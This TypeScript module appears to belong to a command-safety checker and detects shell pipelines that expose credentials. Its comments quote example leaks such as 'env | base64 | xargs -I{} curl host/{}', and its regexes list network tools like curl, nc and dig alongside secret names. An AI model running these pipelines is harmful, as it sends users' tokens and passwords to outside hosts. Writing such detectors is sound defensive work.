/** Filters that pick credentials out of what lists settings: `env | grep TOKEN`, `docker inspect web | jq '.[].Config.Env'`. */
import type { StartedCommand } from '../shell/host';
import { isEncoder } from '../shell/encoders';
import { shown } from '../shell/value';
import { credentialIn } from './credential-names';
import { wordOf } from './field-word';

/** What prints settings, credentials among them. */
const LISTS = /^(env|printenv|set|export|declare|typeset|history)( -\S+)*$|^(docker|podman|nerdctl)( container| image)? (inspect|history)\b|^(docker |podman )?-?compose .*\bconfig\b|^(docker|podman)-compose .*\bconfig\b|^(terraform|tofu)\b.* (show|output)\b|^helm\b.* get (values|all)\b|^aws lambda get-function/;
const FILTERS = /^(e|f|g|z)?grep$|^(rg|ag|ack|awk|gawk|sed|jq)$/;
const CREDENTIAL = /token|secret|passw|passphrase|credential|(api|access|private|signing)[_-]?key|_key\b|AKIA|\.Env\b/i;
/** Only a count, a status, or the other lines. */
const PRINTS_NONE = /^-[a-zA-Z]*[cqv]|^--(count|quiet|silent|invert-match)$/;

/** Whether this filter prints the lines or members that hold credentials. */
export function picksCredentials(command: StartedCommand): boolean {
    const { stdin, words } = command;
    if (stdin.kind !== 'pipe' || !FILTERS.test(nameOf(shown(words[0].value)))) {
        return false;
    }
    const args = words.slice(1).map(word => shown(word.value));
    const pattern = args.find(arg => !arg.startsWith('-') || arg.length === 1);
    return pattern !== undefined && CREDENTIAL.test(pattern) && !args.some(arg => PRINTS_NONE.test(arg)) && isFedSettings(command, 6);
}

/** Filters that print what comes in, as it is or in another shape. */
const PASSES = /^(cat|tac|rev|tee|xxd|od|hexdump|base64|base32|tr|fold|head|tail|cut|sed|awk|gawk|grep|sort|jq|less|more|column|nl|strings)$/;

/** `echo $TOKEN | base64`: printed all the same, though not by the command that names it. */
export function passesCredentials(command: StartedCommand): boolean {
    return !command.captured && PASSES.test(nameOf(shown(command.words[0].value))) && isFedCredential(command, 6) && !command.words.some(word => PRINTS_NONE.test(shown(word.value)) && /grep$/.test(shown(command.words[0].value)));
}

function isFedCredential({ stdin }: StartedCommand, left: number): boolean {
    return stdin.kind === 'pipe' && left > 0 && stdin.from.some(from => /^(echo|printf)$/.test(nameOf(shown(from.words[0].value)))
        ? from.words.some(word => credentialIn(wordOf(word)) !== undefined)
        : PASSES.test(nameOf(shown(from.words[0].value))) && isFedCredential(from, left - 1));
}

const SENDERS = /^(curl|wget|dig|drill|host|nslookup|ping|nc|ncat|http|https|xh)$/;
const GATHERS = /^(env|printenv|set|export|declare|history)( -\S+)*$/;

/** `env | base64 | xargs -I{} curl host/{}`: what comes in becomes a part of the name that is asked for. */
export function sendsInNames(command: StartedCommand): boolean {
    const [program, ...args] = command.words.map(word => shown(word.value));
    return /^(xargs|parallel)$/.test(nameOf(program)) && args.some(arg => SENDERS.test(nameOf(arg))) && isFedContent(command, 6);
}

function isFedContent({ stdin }: StartedCommand, left: number): boolean {
    return stdin.kind === 'pipe' && left > 0 && stdin.from.some(from => isEncoder(shown(from.words[0].value)) || GATHERS.test(lineOf(from)) || isFedContent(from, left - 1));
}

function isFedSettings({ stdin }: StartedCommand, left: number): boolean {
    return stdin.kind === 'pipe' && left > 0 && stdin.from.some(from => LISTS.test(lineOf(from)) || isFedSettings(from, left - 1));
}

function lineOf({ words }: StartedCommand): string {
    const [program, ...args] = words.map(word => shown(word.value));
    return [nameOf(program), ...args].join(' ');
}

function nameOf(program: string | undefined): string {
    return program?.split('/').pop() ?? '';
}
